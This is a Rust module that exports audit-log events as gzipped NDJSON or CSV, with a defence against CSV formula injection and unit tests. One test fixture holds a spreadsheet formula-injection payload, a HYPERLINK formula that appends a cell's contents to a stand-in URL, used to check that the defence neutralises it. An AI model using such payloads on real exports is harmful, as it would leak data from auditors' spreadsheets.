//! The export file's bytes: NDJSON (each original event, as the listing gives it, on its line)
//! or CSV (`CONTRACT.md`'s columns, the event itself last), gzip. A file is written as several
//! gzip members, one per uploaded part: members one after the other are one gzip file to every
//! reader (RFC 1952, 2.2), so each part is finished on its own and no compressor state has to
//! outlive a step.

use audit_log::search::Resource;
use audit_log::streaming::ExportFormat;
use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::Value;
use serde_json::value::RawValue;
use std::io::Write;

/// The CSV export's columns.
pub const CSV_COLUMNS: [&str; 14] = [
    "timestamp",
    "organization_id",
    "project_id",
    "action",
    "status",
    "description",
    "actor_principal_id",
    "actor_type",
    "actor_email",
    "resource_type",
    "resource_id",
    "resource_name",
    "error",
    "event",
];

/// One gzip member of the file being written, after the bytes carried over from earlier steps.
pub enum ExportFile {
    Ndjson(Box<GzEncoder<Vec<u8>>>),
    Csv(Box<csv::Writer<GzEncoder<Vec<u8>>>>),
}

impl ExportFile {
    /// A member appended to `carried` (earlier members not yet uploaded); the CSV header first
    /// when this is the file's beginning.
    pub fn new(format: ExportFormat, carried: Vec<u8>, beginning: bool) -> std::io::Result<Self> {
        let gzip = GzEncoder::new(carried, Compression::default());
        Ok(match format {
            ExportFormat::Ndjson => Self::Ndjson(Box::new(gzip)),
            ExportFormat::Csv => {
                let mut csv = csv::Writer::from_writer(gzip);
                if beginning {
                    csv.write_record(CSV_COLUMNS)?;
                }
                Self::Csv(Box::new(csv))
            }
        })
    }

    /// Appends one event (its original JSON).
    pub fn write(&mut self, event: &RawValue) -> std::io::Result<()> {
        match self {
            Self::Ndjson(gzip) => {
                gzip.write_all(event.get().as_bytes())?;
                gzip.write_all(b"\n")
            }
            Self::Csv(csv) => {
                let json: Value = serde_json::from_str(event.get())?;
                let mut row = row(&json, event.get());
                for cell in &mut row[..CSV_COLUMNS.len() - 1] {
                    defuse(cell);
                }
                Ok(csv.write_record(row.iter().map(|cell| cell.as_bytes()))?)
            }
        }
    }

    /// Compressed bytes so far (the writers may hold a little more).
    pub fn compressed_bytes(&self) -> usize {
        match self {
            Self::Ndjson(gzip) => gzip.get_ref().len(),
            Self::Csv(csv) => csv.get_ref().get_ref().len(),
        }
    }

    /// The bytes carried over and this member, finished.
    pub fn finish(self) -> std::io::Result<Vec<u8>> {
        match self {
            Self::Ndjson(gzip) => gzip.finish(),
            Self::Csv(csv) => csv.into_inner().map_err(|e| e.into_error())?.finish(),
        }
    }
}

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, or a tab or carriage return
/// before one) is written after an apostrophe, which spreadsheets read as "text" (OWASP's CSV
/// injection advice): an audit log is opened by auditors, and its cells hold what anyone who
/// named a bucket or a build wrote. The last column, the event itself, is left exact.
fn defuse(cell: &mut std::borrow::Cow<'_, str>) {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        *cell = std::borrow::Cow::Owned(format!("'{cell}"));
    }
}

/// The CSV row of an event: its fields by column, `event` its JSON as stored.
fn row<'a>(event: &'a Value, json: &'a str) -> [std::borrow::Cow<'a, str>; 14] {
    use std::borrow::Cow;
    let text = |v: Option<&'a Value>| -> Cow<'a, str> {
        match v {
            None | Some(Value::Null) => Cow::Borrowed(""),
            Some(Value::String(s)) => Cow::Borrowed(s),
            Some(other) => Cow::Owned(other.to_string()),
        }
    };
    let field = |name: &str| text(event.get(name));
    let actor = |path: &[&str]| {
        text(
            path.iter()
                .try_fold(event.get("actor").unwrap_or(&Value::Null), |v, k| v.get(k)),
        )
    };
    let resource = Resource::of(event);
    [
        field("timestamp"),
        field("organization_id"),
        field("project_id"),
        field("action"),
        field("status"),
        field("description"),
        actor(&["principal_id"]),
        actor(&["type"]),
        actor(&["user", "email"]),
        Cow::Borrowed(resource.as_ref().map_or("", |r| r.kind.into())),
        Cow::Borrowed(resource.as_ref().map_or("", |r| r.id)),
        Cow::Borrowed(resource.as_ref().map_or("", |r| r.name)),
        field("error"),
        Cow::Borrowed(json),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use audit_log::fixtures::SEED_EVENTS;
    use flate2::read::MultiGzDecoder;
    use std::io::Read;

    fn raw(json: &str) -> Box<RawValue> {
        let compact = serde_json::to_string(&serde_json::from_str::<Value>(json).unwrap()).unwrap();
        RawValue::from_string(compact).unwrap()
    }

    fn gunzip(bytes: &[u8]) -> String {
        let mut text = String::new();
        MultiGzDecoder::new(bytes)
            .read_to_string(&mut text)
            .unwrap();
        text
    }

    /// The CSV row of one event, as a reader reads the file back.
    fn csv_row(event: &RawValue) -> csv::StringRecord {
        let mut file = ExportFile::new(ExportFormat::Csv, Vec::new(), true).unwrap();
        file.write(event).unwrap();
        let text = gunzip(&file.finish().unwrap());
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap()
    }

    /// The seed's events written over `members` members, each carried into the next.
    fn written(format: ExportFormat, members: usize) -> (Vec<Box<RawValue>>, String) {
        let events: Vec<Box<RawValue>> = SEED_EVENTS.iter().map(|(_, e)| raw(e)).collect();
        let mut carried = Vec::new();
        for (i, chunk) in events.chunks(events.len().div_ceil(members)).enumerate() {
            let mut file = ExportFile::new(format, carried, i == 0).unwrap();
            for event in chunk {
                file.write(event).unwrap();
            }
            carried = file.finish().unwrap();
        }
        (events, gunzip(&carried))
    }

    #[test]
    fn ndjson_is_each_event_as_given_on_its_line_across_members() {
        for members in [1, 3] {
            let (events, text) = written(ExportFormat::Ndjson, members);
            let lines: Vec<&str> = text.lines().collect();
            let given: Vec<&str> = events.iter().map(|e| e.get()).collect();
            assert_eq!(lines, given);
            assert!(text.ends_with('\n'));
        }
    }

    #[test]
    fn csv_has_the_header_once_and_each_events_columns_with_its_json_last() {
        let (events, text) = written(ExportFormat::Csv, 3);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(
            reader.headers().unwrap(),
            &csv::StringRecord::from(&CSV_COLUMNS[..])
        );
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), events.len());
        for (row, event) in rows.iter().zip(&events) {
            let json: Value = serde_json::from_str(event.get()).unwrap();
            assert_eq!(&row[0], json["timestamp"].as_str().unwrap());
            assert_eq!(&row[3], json["action"].as_str().unwrap());
            assert_eq!(&row[6], json["actor"]["principal_id"].as_str().unwrap());
            assert_eq!(&row[13], event.get());
        }
        // The seed's failed build: its error, and the version it is about.
        let failed = rows
            .iter()
            .find(|r| &r[4] == "FAILED")
            .expect("a FAILED event");
        assert!(failed[12].starts_with("rpc error"), "{:?}", &failed[12]);
        assert_eq!(&failed[9], "version");
        assert_eq!(&failed[11], "v5");
    }

    #[test]
    fn text_that_looks_like_csv_stays_in_its_cell() {
        let event = raw(
            r#"{"timestamp":"2026-01-01T00:00:00Z","description":"a, \"quoted\"\nline","actor":{"principal_id":"p","type":"TYPE_USER","user":{"email":"a@b.c"}},"error":{"code":7}}"#,
        );
        let row = csv_row(&event);
        assert_eq!(&row[5], "a, \"quoted\"\nline");
        assert_eq!(&row[8], "a@b.c");
        assert_eq!(&row[12], r#"{"code":7}"#);
        assert_eq!(&row[13], event.get());
    }

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_text_and_the_event_stays_exact() {
        let event = raw(
            r#"{"timestamp":"2026-01-01T00:00:00Z","description":"=HYPERLINK(\"http://x/?\"&A1)","actor":{"principal_id":"+1","type":"-2","user":{"email":"@sum(A1)"}},"bucket":{"id":"\tb","name":"\r=1"},"error":"a = b"}"#,
        );
        let row = csv_row(&event);
        assert_eq!(&row[5], "'=HYPERLINK(\"http://x/?\"&A1)");
        assert_eq!((&row[6], &row[7], &row[8]), ("'+1", "'-2", "'@sum(A1)"));
        assert_eq!((&row[10], &row[11]), ("'\tb", "'\r=1"));
        assert_eq!(&row[0], "2026-01-01T00:00:00Z");
        assert_eq!(&row[12], "a = b", "only a leading sign counts");
        assert_eq!(&row[13], event.get());
    }
}
